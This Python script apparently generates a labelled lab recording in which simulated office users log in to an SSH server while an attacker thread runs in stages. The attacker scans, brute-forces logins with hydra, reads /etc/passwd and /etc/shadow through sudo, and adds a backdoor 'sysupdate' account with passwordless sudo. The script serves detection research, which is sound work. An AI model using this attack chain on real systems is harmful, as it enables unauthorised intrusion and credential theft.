# SPDX-License-Identifier: Apache-2.0
"""Who is in the recording and what they do: honest people in one thread, the attacker in another."""

import os
import pathlib
import subprocess
import threading
import time
from dataclasses import dataclass

HOST = "web-1"
SERVER = "10.20.0.5"
PORT = 2222


@dataclass(frozen=True)
class Peer:
    namespace: str
    address: str


# Offices use private addresses, everybody else those that RFC 5737 keeps for documents.
PEERS = {peer.namespace: peer for peer in (
    Peer("desk-alice", "10.20.0.21"),
    Peer("desk-bob", "10.20.0.22"),
    Peer("desk-carol", "10.20.0.23"),
    Peer("build", "10.20.0.40"),
    Peer("travel", "198.51.100.23"),
    Peer("attacker", "203.0.113.66"),
)}


@dataclass(frozen=True)
class User:
    name: str
    password: str
    may_sudo: bool = False
    has_key: bool = False


USERS = (
    User("alice", "Wald-Tinte-47-Regal", may_sudo=True, has_key=True),
    User("bob", "kaffee!und!kuchen!81"),
    User("carol", "Lampe.Segel.Moos.5", may_sudo=True),
    User("deploy", "no-password-login-9f2c", has_key=True),
    User("support", "summer2026", may_sudo=True),  # the weak one
)
PASSWORDS = {user.name: user.password for user in USERS}

GUESSED_USERS = ["root", "admin", "oracle", "test", "postgres", "bob", "support"]
GUESSED_PASSWORDS = ["123456", "password", "admin", "letmein", "qwerty", "root", "welcome1", "summer2026"]

QUIET = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
OPTIONS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=20",
           "-o", "LogLevel=ERROR", "-p", str(PORT)]


def at(peer, *command, seconds_max=90, **options):
    """Runs a program at a peer."""
    try:
        return subprocess.run(["ip", "netns", "exec", peer, *command], check=False, timeout=seconds_max,
                              **{**QUIET, **options}).returncode
    except subprocess.TimeoutExpired:
        return -1


def by_key(peer, user, command):
    return at(peer, "ssh", "-i", f"/root/{user}.key", *OPTIONS, f"{user}@{SERVER}", command)


def by_password(peer, user, passwords, command, *more, typed=""):
    """The ordinary client, which asks a helper for each password: mistypes come first in the list. `typed` goes to the
    command's standard input."""
    helper = pathlib.Path(f"/root/askpass-{threading.get_ident()}-{time.monotonic_ns()}")
    queue = pathlib.Path(f"{helper}.queue")
    queue.write_text("".join(password + "\n" for password in passwords))
    helper.write_text(f"#!/bin/sh\nhead -n 1 {queue}\nsed -i 1d {queue}\n")
    os.chmod(helper, 0o700)
    environment = {**os.environ, "SSH_ASKPASS": str(helper), "SSH_ASKPASS_REQUIRE": "force"}
    return at(peer, "ssh", "-o", "PubkeyAuthentication=no", "-o", f"NumberOfPasswordPrompts={len(passwords)}", *more,
              *OPTIONS, f"{user}@{SERVER}", command, env=environment, stdin=None, input=typed.encode())


def with_sudo(*commands):
    """A shell line that runs the commands under sudo, the password read from standard input."""
    return "; ".join(f"sudo -S -p '' {command}" for command in commands)


def honest(is_over):
    """An office's morning in small: until the attacker is through, and a little longer."""
    alice, bob, carol = PASSWORDS["alice"], PASSWORDS["bob"], PASSWORDS["carol"]
    rounds = 0
    while rounds < 2 or not is_over.is_set():
        by_key("build", "deploy", "mkdir -p release && date > release/stamp && sleep 1")
        by_key("desk-alice", "alice", "uptime; ls")
        by_password("desk-bob", "bob", ["kaffe!und!kuchen!81", bob], "ls; sleep 2")
        if rounds == 0:
            by_password("desk-alice", "alcie", ["x", "x"], "true")  # a slip of the fingers
            by_password("desk-carol", "carol", [carol], with_sudo("-k id"), typed=f"Lampe.Segel.Moos\n{carol}\n")
        if rounds == 1:
            by_key("travel", "alice", "df -h; sleep 2")
            at("desk-alice", "ssh", "-tt", "-i", "/root/alice.key", *OPTIONS, f"alice@{SERVER}",
               with_sudo("tail -n 3 /var/log/auth.log"), stdin=None, input=f"{alice}\n".encode())
        if rounds == 2:
            by_password("desk-carol", "carol", ["Lampe.Segel.Moos.4", "Lampe Segel Moos 5", carol], "cat /etc/hostname")
        at("build", "scp", "-q", "-P", str(PORT), "-i", "/root/deploy.key", *OPTIONS[:-2], "/etc/hostname",
           f"deploy@{SERVER}:release/hostname")
        by_password("desk-bob", "bob", [bob], "who; sleep 1")
        time.sleep(4)
        rounds += 1


PHASES = []  # what the attacker began when, for the labels


def begin(stage, tool):
    PHASES.append({"begin": time.time(), "stage": stage, "tool": tool})


def attack():
    """Looks, guesses, gets in, looks around as root, leaves a way back."""
    time.sleep(20)
    peer, password = "attacker", PASSWORDS["support"]
    begin("scan", "curl")
    at(peer, "curl", "-s", "-m", "5", f"http://{SERVER}:{PORT}/")
    begin("scan", "ssh-keyscan")
    at(peer, "ssh-keyscan", "-T", "5", "-p", str(PORT), SERVER)
    begin("scan", "ssh")
    at(peer, "ssh", "-o", "KexAlgorithms=diffie-hellman-group1-sha1", *OPTIONS, f"root@{SERVER}", "true")
    pathlib.Path("/root/users").write_text("\n".join(GUESSED_USERS) + "\n")
    pathlib.Path("/root/words").write_text("\n".join(GUESSED_PASSWORDS) + "\n")
    begin("guessing", "hydra")
    at(peer, "hydra", "-I", "-u", "-t", "4", "-L", "/root/users", "-P", "/root/words", "-s", str(PORT), SERVER, "ssh",
       seconds_max=300, cwd="/root")
    time.sleep(5)
    begin("break-in", "ssh")
    by_password(peer, "support", [password], "id; uname -a; cat /etc/passwd; sleep 2")
    begin("privilege", "ssh, sudo")
    by_password(peer, "support", [password], with_sudo("-l", "cat /etc/shadow", "/bin/bash -c id"), "-tt",
                typed=f"{password}\n" * 3)
    begin("persistence", "ssh, sudo")
    rule = "sysupdate ALL=(ALL) NOPASSWD: ALL"
    by_password(peer, "support", [password],
                with_sudo("useradd -m -s /bin/bash -G sudo sysupdate",
                          f"sh -c 'echo \"{rule}\" > /etc/sudoers.d/sysupdate'"), "-tt", typed=f"{password}\n" * 2)


def play():
    is_over = threading.Event()
    people = threading.Thread(target=honest, args=(is_over,))
    people.start()
    attack()
    is_over.set()
    people.join()
